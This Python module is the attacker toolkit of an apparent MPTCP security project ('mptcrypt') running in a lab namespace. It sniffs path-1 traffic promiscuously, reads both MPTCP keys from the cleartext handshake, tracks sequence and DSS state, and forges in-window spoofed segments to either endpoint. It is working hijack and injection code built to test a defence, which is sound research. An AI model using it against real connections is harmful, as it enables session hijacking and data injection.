"""The attacker's toolkit: a tap on its interface, a decoder, what it learned about path 1, a forger.

Everything here runs INSIDE the attacker's namespace (`mptcrypt.attacks.agent`). The attacker knows only what it
sniffs on path 1 (the hub floods every frame of path 1 to it) plus public facts: the server's address and port.
From the sniffed MP_CAPABLE exchange it learns both MPTCP keys (RFC 8684 sends them in clear in the third ACK),
from the subflow's segments the sequence numbers, timestamps, DSS mappings and data ACKs it needs to forge
in-window segments. Frames are sent on the attacker's own interface with AF_PACKET, so they bypass the attacker's
own iptables (which drops the RSTs its kernel would send for connections it does not know).

Packets are crafted with scapy (Ether/IP/TCP with raw option tuples); MPTCP options are encoded and their HMACs
computed with `mptcrypt.wire.mptcp`. Sniffed frames are decoded with `mptcrypt.wire.segment`, the engine's own
parser (scapy is too slow to decode every frame of a transfer).
"""

from __future__ import annotations

import os
import re
import socket
import struct
import time
from dataclasses import dataclass, field

from mptcrypt.constants import MAC_OPTION_LEN, MPTCRYPT_EXID, TCPOPT_EOL, TCPOPT_EXP, TCPOPT_MPTCP, TCPOPT_NOP, TCPOPT_TIMESTAMP
from mptcrypt.errors import DecodeError
from mptcrypt.wire.messages import is_mptcrypt_option
from mptcrypt.wire.mptcp import Has, MptcpOption, Subtype, encode_mptcp, mptcp_idsn, mptcp_token
from mptcrypt.wire.segment import parse_segment
from mptcrypt.wire.tcp import TCPOLEN_TIMESTAMP, option_value

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_IPV6 = 0x86DD
PACKET_OUTGOING = 4
SOL_PACKET = 263
PACKET_ADD_MEMBERSHIP = 1
PACKET_MR_PROMISC = 1

FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10
EXID = struct.pack("!H", MPTCRYPT_EXID)
MAC_PREFIX = bytes((TCPOPT_EXP, MAC_OPTION_LEN)) + EXID

# The application's plaintext markers (see mptcrypt.attacks.transfer): what a passive reader looks for.
UP_MARK = b"MPTC-UP-"
DOWN_MARK = b"MPTC-DN-"
INJECT_MARK = b"INJECTED-BY-ATTACKER"
RECORD_RE = re.compile(rb"MPTC-(UP|DN)-(\d{8}):")

_ETH = struct.Struct("!6s6sH")
U32 = 1 << 32


def seq_add(a: int, b: int) -> int:
    return (a + b) & 0xFFFFFFFF


def seq_after(a: int, b: int) -> bool:
    """a > b in 32-bit sequence space."""
    return 0 < ((a - b) & 0xFFFFFFFF) < 1 << 31


@dataclass(slots=True)
class Seg:
    """One sniffed TCP segment (IPv4, or IPv6 with any extension headers before TCP)."""

    t: float
    eth_src: bytes
    eth_dst: bytes
    src: str
    dst: str
    sport: int
    dport: int
    seq: int
    ack: int
    flags: int
    window: int
    opts: list[tuple[int, bytes]]
    payload: bytes
    mptcp: list[MptcpOption]
    mptcrypt: bool  # carries a kind-253 option with mptcrypt's ExID
    mac: bool  # its option area ends with mptcrypt's 12-byte MAC option
    ts: tuple[int, int] | None
    packet: bytes = b""  # the IP packet as sniffed (for an attacker that runs an mptcrypt engine of its own)

    @property
    def end(self) -> int:
        """Sequence number after this segment (SYN and FIN count one)."""
        return seq_add(self.seq, len(self.payload) + bool(self.flags & SYN) + bool(self.flags & FIN))

    def mp(self, subtype: int) -> MptcpOption | None:
        for o in self.mptcp:
            if o.subtype == subtype:
                return o
        return None


def parse_frame(frame: bytes, t: float | None = None) -> Seg | None:
    """Ethernet + IPv4/IPv6 + TCP -> Seg; anything else -> None (headers read by `wire.segment`)."""
    if len(frame) < 54:
        return None
    eth_dst, eth_src, etype = _ETH.unpack_from(frame, 0)
    if etype not in (ETH_P_IP, ETH_P_IPV6):
        return None
    try:
        seg = parse_segment(frame[14:])
        if seg is None or seg.version != (4 if etype == ETH_P_IP else 6):
            return None
        tcp_opts = seg.tcp_options()
    except DecodeError:
        return None
    opts = [(o.kind, o.encode()) for o in tcp_opts if o.kind not in (TCPOPT_EOL, TCPOPT_NOP)]
    ts, mptcrypt = None, False
    for o in tcp_opts:
        if o.kind == TCPOPT_TIMESTAMP and o.size == TCPOLEN_TIMESTAMP:
            ts = option_value(o)
        elif is_mptcrypt_option(o.kind, o.data):
            mptcrypt = True
    return Seg(
        time.time() if t is None else t, eth_src, eth_dst, _ntop(seg.src), _ntop(seg.dst),
        seg.sport, seg.dport, seg.seq, seg.ack, seg.flags & 0x3F, seg.window, opts, seg.payload(), seg.mptcp(),
        mptcrypt, seg.has_mac(), ts, seg.packet,
    )


def _ntop(addr: bytes) -> str:
    return socket.inet_ntop(socket.AF_INET6 if len(addr) == 16 else socket.AF_INET, addr)


class Tap:
    """An AF_PACKET socket on the attacker's interface: every frame the hub floods to it, and a way to send."""

    def __init__(self, iface: str) -> None:
        self.iface = iface
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        self.sock.bind((iface, 0))
        ifindex = socket.if_nametoindex(iface)
        mreq = struct.pack("iHH8s", ifindex, PACKET_MR_PROMISC, 0, b"")
        self.sock.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, mreq)
        self.mac: bytes = self.sock.getsockname()[4]
        self.sent = 0

    def recv(self, timeout: float) -> Seg | None:
        """The next TCP segment someone else sent (our own frames are skipped), or None after `timeout`."""
        deadline = time.monotonic() + max(0.0, timeout)
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            self.sock.settimeout(left)
            try:
                frame, addr = self.sock.recvfrom(65535)
            except (socket.timeout, BlockingIOError):
                return None
            if addr[2] == PACKET_OUTGOING:
                continue
            seg = parse_frame(frame)
            if seg is not None:
                return seg

    def pending(self) -> list[Seg]:
        """Every segment already queued on the socket, without waiting."""
        out = []
        self.sock.setblocking(False)
        try:
            while True:
                try:
                    frame, addr = self.sock.recvfrom(65535)
                except (BlockingIOError, InterruptedError):
                    break
                if addr[2] == PACKET_OUTGOING:
                    continue
                seg = parse_frame(frame)
                if seg is not None:
                    out.append(seg)
        finally:
            self.sock.setblocking(True)
        return out

    def send(self, frame: bytes) -> None:
        self.sock.send(frame)
        self.sent += 1

    def close(self) -> None:
        self.sock.close()


@dataclass
class Half:
    """One direction of the observed path-1 subflow."""

    isn: int | None = None
    nxt: int | None = None  # highest sequence number sent + its length
    ack: int | None = None  # latest acknowledgement number
    ts: tuple[int, int] | None = None  # latest (tsval, tsecr)
    window: int = 502
    last_data_t: float = 0.0
    map_end: int | None = None  # end of the latest 64-bit DSS mapping (data sequence space)
    data_ack: int | None = None  # latest DSS data ACK, 64-bit (expanded)
    segments: int = 0
    payload_bytes: int = 0
    mac_segments: int = 0


@dataclass
class View:
    """What the attacker knows about the MPTCP connection client -> server:port from path 1."""

    client: str
    server: str
    port: int
    me: str
    cport: int | None = None
    macs: dict[str, bytes] = field(default_factory=dict)
    syn_t: float | None = None
    mp_capable: bool = False
    key_client: bytes | None = None
    key_server: bytes | None = None
    c2s: Half = field(default_factory=Half)
    s2c: Half = field(default_factory=Half)
    syn_options: list[int] = field(default_factory=list)  # option kinds of the client's SYN
    synack_options: list[int] = field(default_factory=list)
    mptcrypt_segments: int = 0  # segments of the connection that carried mptcrypt options
    records: dict[str, set[int]] = field(default_factory=lambda: {"UP": set(), "DN": set()})
    plaintext_bytes: dict[str, int] = field(default_factory=lambda: {"UP": 0, "DN": 0})
    other_port_segments: int = 0
    log: list[str] = field(default_factory=list)

    # --- learning ---------------------------------------------------------------------------------
    def learn(self, seg: Seg) -> str | None:
        """Update from one sniffed segment. Returns 'c2s' / 's2c' for the path-1 subflow, else None."""
        self.macs.setdefault(seg.src, seg.eth_src)
        if seg.src == self.client and seg.dst == self.server and seg.dport == self.port:
            if seg.flags & SYN and not seg.flags & ACK:
                if self.cport != seg.sport:
                    self._new_connection(seg)
                return "c2s"
            if seg.sport != self.cport:
                return None
            self._half(self.c2s, seg, "c2s")
            return "c2s"
        if seg.src == self.server and seg.dst == self.client and seg.sport == self.port and seg.dport == self.cport:
            if seg.flags & SYN:
                self.s2c.isn = seg.seq
                self.synack_options = [k for k, _ in seg.opts]
                mpc = seg.mp(Subtype.MP_CAPABLE)
                if mpc is not None and mpc.has(Has.SNDR_KEY):
                    self.key_server = mpc.sndr_key
            self._half(self.s2c, seg, "s2c")
            return "s2c"
        return None

    def _new_connection(self, seg: Seg) -> None:
        self.cport = seg.sport
        self.syn_t = seg.t
        self.c2s, self.s2c = Half(isn=seg.seq), Half()
        self.syn_options = [k for k, _ in seg.opts]
        self.mp_capable = seg.mp(Subtype.MP_CAPABLE) is not None
        self.key_client = self.key_server = None
        self.log.append(f"{seg.t:.3f} SYN {self.client}:{seg.sport} -> {self.server}:{self.port} "
                        f"options {self.syn_options}")

    def _half(self, h: Half, seg: Seg, direction: str) -> None:
        h.segments += 1
        h.window = seg.window
        if seg.mptcrypt:
            self.mptcrypt_segments += 1
        if seg.mac:
            h.mac_segments += 1
        if h.nxt is None or seq_after(seg.end, h.nxt):
            h.nxt = seg.end
        if seg.flags & ACK:
            h.ack = seg.ack
        if seg.ts is not None:
            h.ts = seg.ts
        if seg.payload:
            h.last_data_t = seg.t
            h.payload_bytes += len(seg.payload)
            for m in RECORD_RE.finditer(seg.payload):
                kind = m.group(1).decode()
                self.records[kind].add(int(m.group(2)))
            self.plaintext_bytes["UP"] += seg.payload.count(UP_MARK) * len(UP_MARK)
            self.plaintext_bytes["DN"] += seg.payload.count(DOWN_MARK) * len(DOWN_MARK)
        mpc = seg.mp(Subtype.MP_CAPABLE)
        if mpc is not None and mpc.has(Has.SNDR_KEY | Has.RCVR_KEY) and direction == "c2s":
            if self.key_client is None:
                self.log.append(f"{seg.t:.3f} MP_CAPABLE keys read off the wire (client's third ACK)")
            self.key_client, self.key_server = mpc.sndr_key, mpc.rcvr_key
        dss = seg.mp(Subtype.DSS)
        if dss is not None:
            if dss.has(Has.MAP) and dss.data_len:
                dsn = dss.data_seq if dss.has(Has.DSN64) else self._expand(dss.data_seq, direction, own=True)
                if dsn is not None:
                    end = dsn + dss.data_len
                    if h.map_end is None or end > h.map_end:
                        h.map_end = end
            if dss.has(Has.DATA_ACK):
                dack = dss.data_ack if dss.has(Has.DATA_ACK64) else self._expand(dss.data_ack, direction, own=False)
                if dack is not None and (h.data_ack is None or dack > h.data_ack):
                    h.data_ack = dack

    def _expand(self, value32: int, direction: str, own: bool) -> int | None:
        """A 32-bit DSN or data ACK -> 64 bits, next to the sender's (own) or receiver's initial DSN."""
        sender_is_client = direction == "c2s"
        key = self.key_client if sender_is_client == own else self.key_server
        if key is None:
            return None
        base = mptcp_idsn(key)
        cand = (base & ~0xFFFFFFFF) | value32
        if cand < base - (1 << 31):
            cand += U32
        return cand

    # --- derived --------------------------------------------------------------------------------
    @property
    def keys_known(self) -> bool:
        return self.key_client is not None and self.key_server is not None

    @property
    def token_server(self) -> int | None:
        return mptcp_token(self.key_server) if self.key_server else None

    @property
    def protected(self) -> bool:
        """The path-1 subflow carries mptcrypt MACs (the attacker can see that much)."""
        return self.c2s.mac_segments > 0 or self.s2c.mac_segments > 0

    def next_dsn_c2s(self) -> int | None:
        """Best estimate of the server's next expected data sequence number of the upload."""
        cands = [v for v in (self.c2s.map_end, self.s2c.data_ack) if v is not None]
        return max(cands) if cands else None

    def summary(self) -> dict:
        return {
            "connection": f"{self.client}:{self.cport} -> {self.server}:{self.port}" if self.cport else None,
            "mp_capable": self.mp_capable,
            "keys_learned": self.keys_known,
            "key_client": self.key_client.hex() if self.key_client else None,
            "key_server": self.key_server.hex() if self.key_server else None,
            "syn_options": self.syn_options,
            "synack_options": self.synack_options,
            "mptcrypt_segments": self.mptcrypt_segments,
            "mac_segments": self.c2s.mac_segments + self.s2c.mac_segments,
            "path1_segments": self.c2s.segments + self.s2c.segments,
            "path1_payload_bytes": {"c2s": self.c2s.payload_bytes, "s2c": self.s2c.payload_bytes},
            "plaintext_records_seen": {k: len(v) for k, v in self.records.items()},
        }


# --- forging ------------------------------------------------------------------------------------------------


def mptcp_opt(o: MptcpOption) -> tuple[int, bytes]:
    """An MPTCP option as a scapy option tuple (kind, value after kind and length)."""
    raw = encode_mptcp(o)
    return (TCPOPT_MPTCP, raw[2:])


def forge(
    view: View,
    src: str,
    dst: str,
    sport: int,
    dport: int,
    seq: int,
    ack: int,
    flags: int,
    options: list = (),
    payload: bytes = b"",
    window: int | None = None,
    ts: tuple[int, int] | None = None,
    src_mac: bytes | None = None,
    ext_headers: list = (),
) -> bytes:
    """An Ethernet frame carrying a forged TCP segment (scapy computes lengths and checksums).

    IPv6 when `src` is an IPv6 address; `ext_headers`: scapy IPv6 extension headers put between the IPv6 header
    and TCP, in order (e.g. [IPv6ExtHdrHopByHop(), IPv6ExtHdrDestOpt()]: `ipv6_ext_headers`).

    `options`: scapy option tuples, e.g. [mptcp_opt(MptcpOption.mp_prio(True))]. `ts`: a timestamp option.
    Spoofed segments carry none: Linux applies PAWS only to segments that have one, and a copied timestamp is
    often already older than the receiver's ts_recent when the forgery arrives. Source MAC: the spoofed host's
    (learned from its frames) unless `src_mac`; destination MAC: the receiver's.
    """
    from scapy.layers.inet import IP, TCP
    from scapy.layers.l2 import Ether
    from scapy.packet import Raw

    opts = []
    if ts is not None:
        opts += [("NOP", None), ("NOP", None), ("Timestamp", ts)]
    opts += list(options)
    eth_src = src_mac or view.macs.get(src) or b"\x02\x00\x00\x00\x00\x66"
    eth_dst = view.macs.get(dst, b"\xff" * 6)
    if ":" in src:
        from scapy.layers.inet6 import IPv6

        net = IPv6(src=src, dst=dst, hlim=64)
        for h in ext_headers:
            net = net / h
    else:
        net = IP(src=src, dst=dst, ttl=64, flags="DF", id=int.from_bytes(os.urandom(2), "big"))
    pkt = (
        Ether(src=_mac_str(eth_src), dst=_mac_str(eth_dst)) / net
        / TCP(sport=sport, dport=dport, seq=seq & 0xFFFFFFFF, ack=ack & 0xFFFFFFFF, flags=flags,
              window=window if window is not None else 502, options=_pad(opts))
    )
    if payload:
        pkt = pkt / Raw(payload)
    return bytes(pkt)


_NAMED_SIZE = {"NOP": 1, "EOL": 1, "MSS": 4, "WScale": 3, "SAckOK": 2, "Timestamp": 10}


def _pad(opts: list) -> list:
    """NOPs up to a multiple of 4 bytes (scapy would pad with EOL)."""
    size = sum(_NAMED_SIZE[k] if isinstance(k, str) else 2 + len(v) for k, v in opts)
    return list(opts) + [("NOP", None)] * (-size % 4)


def _mac_str(mac: bytes) -> str:
    return ":".join(f"{b:02x}" for b in mac)


def ipv6_ext_headers(kinds: tuple[str, ...]) -> list:
    """Scapy IPv6 extension headers by name, in order: "hbh" (Hop-by-Hop, RFC 8200 §4.3), "dst" (Destination
    Options, §4.6), "frag" (an atomic Fragment header: offset 0, M=0, RFC 6946), each a valid header a host must
    process and then hand the TCP segment behind it to TCP."""
    from scapy.layers.inet6 import IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop

    make = {"hbh": IPv6ExtHdrHopByHop, "dst": IPv6ExtHdrDestOpt,
            "frag": lambda: IPv6ExtHdrFragment(offset=0, m=0, id=int.from_bytes(os.urandom(4), "big"))}
    return [make[k]() for k in kinds]


def spoof_to_server(view: View, flags: int, options: list = (), payload: bytes = b"", seq: int | None = None,
                    ext_headers: list = ()) -> bytes:
    """A segment of the path-1 subflow as if the client sent it: in-window seq/ack from the sniffed state."""
    h, r = view.c2s, view.s2c
    return forge(view, view.client, view.server, view.cport, view.port,
                 h.nxt if seq is None else seq, r.nxt or 0, flags, options, payload,
                 window=h.window, ext_headers=ext_headers)


def spoof_to_client(view: View, flags: int, options: list = (), payload: bytes = b"", seq: int | None = None,
                    ext_headers: list = ()) -> bytes:
    """A segment of the path-1 subflow as if the server sent it."""
    h, r = view.s2c, view.c2s
    return forge(view, view.server, view.client, view.port, view.cport,
                 h.nxt if seq is None else seq, r.nxt or 0, flags, options, payload,
                 window=h.window, ext_headers=ext_headers)


def rcv_nxt_at_server(view: View) -> int | None:
    """The server's rcv_nxt on path 1: the end of the client's data, or the server's latest ACK if further."""
    cands = [v for v in (view.c2s.nxt, view.s2c.ack) if v is not None]
    if not cands:
        return None
    best = cands[0]
    for v in cands[1:]:
        if seq_after(v, best):
            best = v
    return best
